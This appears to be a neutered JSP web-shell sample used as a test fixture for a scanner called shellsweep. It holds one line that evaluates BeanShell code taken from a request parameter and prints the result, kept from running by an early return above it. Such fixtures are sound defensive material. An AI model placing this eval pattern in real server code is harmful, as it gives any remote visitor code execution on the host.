<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% bsh.Interpreter i = new bsh.Interpreter(); out.print(i.eval(request.getParameter("b"))); %>
